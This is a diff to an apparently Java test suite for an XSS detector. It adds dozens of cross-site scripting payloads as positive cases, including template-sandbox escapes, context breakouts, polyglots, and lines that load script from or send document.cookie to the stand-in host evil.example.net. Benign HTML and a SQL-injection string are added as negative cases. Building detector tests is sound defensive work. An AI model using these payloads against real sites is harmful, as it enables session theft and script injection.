@@ -184,10 +184,29 @@ class XssDetectorTest {
         "{{$on.constructor('alert(1)')()}}",
         "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}",
         "{{[].pop.constructor('alert(1)')()}}",
+        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
+            + "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
+        "<input autofocus ng-focus=\"$event.view.alert(1)\">",
+        "<div v-on:click=\"$event.view.prompt(1)\">x</div>",
+        // more contexts
+        "'}catch(e){alert(1)}//",
+        "'||alert(1)||'",
+        "\"]);alert(1);//",
+        "</textarea><script>alert(1)</script>",
+        "</title><svg onload=alert(1)>",
+        "--><svg onload=alert(1)>",
+        "]]><script>alert(1)</script>",
+        "<title><img src=\"</title><img src onerror=alert(1)>\">",
+        "<img src=`x`onerror=alert(1)>",
+        "<svg><script href=\"data:,alert(1)\" />",
+        "<script type=\"module\">import('//evil.example.net/x.js')</script>",
+        "<embed src=//evil.example.net/x.swf allowscriptaccess=always>",
+        "<a href=\"javascript:document.location='https://evil.example.net/?'+document.cookie\">x</a>",
         // polyglots and encodings
         "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/"
             + "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
         "PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+",
+        "PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ ",
         "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMu"
             + "b3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x\">");
   }
@@ -234,6 +253,12 @@ class XssDetectorTest {
             + "</video>",
         "<input type=\"checkbox\" checked disabled> <label for=\"x\">Remember me</label>",
         "<button onClick={handleClick}>Save</button>",
+        "<script type=\"application/ld+json\">{\"@context\":\"https://schema.org\",\"@type\":"
+            + "\"Organization\",\"sameAs\":[\"https://example.com\"]}</script>",
+        "<script type=\"text/x-handlebars-template\" id=\"row\"><td>{{name}}</td></script>",
+        "<DeleteObjects><Quiet>true</Quiet><Object><Key>logs/app.log</Key></Object></DeleteObjects>",
+        "<Price><Base>USD</Base><Amount>10</Amount></Price>",
+        "<button @click=\"open = !open\" ng-click=\"vm.save()\">Save</button>",
         "<div class=\"note\" data-id=\"42\" aria-label=\"Note: x < y\">text</div>",
         // text with angle brackets
         "x<5 and y>3",
@@ -322,7 +347,15 @@ class XssDetectorTest {
         "session_id=8f14e45fceea167a5a36dedd4bea2545; _ga=GA1.1.1843920571.1714567890",
         "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36",
         "PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPg==",
-        "SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBwbGFpbiB0ZXh0IG1lc3NhZ2U=");
+        "SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBwbGFpbiB0ZXh0IG1lc3NhZ2U=",
+        "I would like to order three more units please",
+        "Please call me back tomorrow morning",
+        "It's 5 o'clock; let's go",
+        "x = y ? 'a' : 'b';",
+        "'); DROP TABLE students;--",
+        "<p>Price &lt; 10 &amp; qty &gt; 2</p>",
+        "<img alt=\"on load\" src=\"/a.png\">",
+        "window.location.href and document.cookie are explained in chapter 3");
   }
 
   @ParameterizedTest
